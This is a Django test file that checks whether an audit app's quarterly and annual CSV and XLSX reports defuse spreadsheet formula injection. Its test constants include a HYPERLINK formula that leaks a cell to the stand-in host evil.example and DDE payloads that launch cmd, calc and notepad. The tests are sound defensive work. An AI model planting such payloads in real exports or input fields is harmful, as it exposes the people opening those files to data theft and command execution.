"""Reasons that look like spreadsheet formulas come out of the quarterly report's CSV and
XLSX as harmless text (audit/cells.py, the one guarded writer of every CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from retention.governance.decisions import do_reject_request
from retention.governance.policy_changes import do_grant_quota
from retention.governance.protection import do_place_hold, do_release_hold
from retention.models import HoldKind, RequestMethod
from tests.conftest import file_request, make_chat

pytestmark = pytest.mark.django_db

REJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOLD_PLACED = "@SUM(1+1)*cmd|' /C calc'!A0"
HOLD_RELEASED = "+cmd|' /C notepad'!A0"
QUOTA = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = (REJECTION, HOLD_PLACED, HOLD_RELEASED, QUOTA)


@pytest.fixture
def hostile_quarter(people, org) -> str:
    """This quarter, with a rejection, a hold placed and released and a quota grant whose
    reasons are the four payloads; its label."""
    make_chat(org.hangzhou, [people.staff], ["店内群"])
    request = file_request(people.staff, RequestMethod.BATCH, departments=[org.hangzhou.pk])
    do_reject_request(
        request, acting_user=people.manager, reason=REJECTION, verified_second_factor=True
    )
    hold = do_place_hold(
        acting_user=people.security,
        kind=HoldKind.LEGAL,
        reason=HOLD_PLACED,
        conversations=[],
        departments=[org.hangzhou],
        verified_second_factor=True,
    )
    do_release_hold(
        hold, acting_user=people.security, reason=HOLD_RELEASED, verified_second_factor=True
    )
    do_grant_quota(
        actor=people.admin, member=people.staff, extra=2, reason=QUOTA, verified_second_factor=True
    )
    today = timezone.localdate()
    return f"{today.year}-Q{(today.month - 1) // 3 + 1}"


def test_the_report_csv_defuses_every_formula_like_reason(client, people, hostile_quarter):
    client.force_login(people.auditor)
    response = client.get(f"/reports/{hostile_quarter}/csv/")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    reasons = {r[0]: r for r in rows if r[0] in ("rejections", "quota_overrides")}
    assert reasons["rejections"][5] == "'" + REJECTION
    assert reasons["quota_overrides"][2] == "2"  # numbers stay numbers


def test_the_report_xlsx_stores_every_reason_as_text_never_a_formula(
    client, people, hostile_quarter
):
    client.force_login(people.auditor)
    response = client.get(f"/reports/{hostile_quarter}/xlsx/")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        cell = texts[payload]  # the text exactly as written
        assert cell.data_type == "s" and cell.quotePrefix, payload
    rejection = next(book["rejections"].iter_rows(min_row=3, values_only=True))
    assert rejection[4] == REJECTION
    quota = next(book["quota_overrides"].iter_rows(min_row=3, values_only=True))
    assert quota[1] == 2  # numbers stay numbers
    summary = {row[0]: row[1] for row in book["summary"].iter_rows(min_row=3, values_only=True)}
    assert 1 in summary.values()


def test_the_annual_assessment_goes_through_the_same_guard(client, people):
    from audit.models import ChainVerification, VerificationStatus

    ChainVerification.objects.create(
        status=VerificationStatus.BROKEN,
        finished_at=timezone.now(),
        events_checked=3,
        broken_id=2,
        reason=REJECTION,
    )
    client.force_login(people.auditor)
    year = timezone.localdate().year
    response = client.get(f"/reports/annual/{year}/csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[2] for r in rows if r[0] == "chain" and r[2].endswith(REJECTION)] == ["'" + REJECTION]
    book = load_workbook(io.BytesIO(client.get(f"/reports/annual/{year}/xlsx/").content))
    chain = [c for row in book["chain"].iter_rows() for c in row if c.value == REJECTION]
    assert [(c.data_type, c.quotePrefix) for c in chain] == [("s", True)]
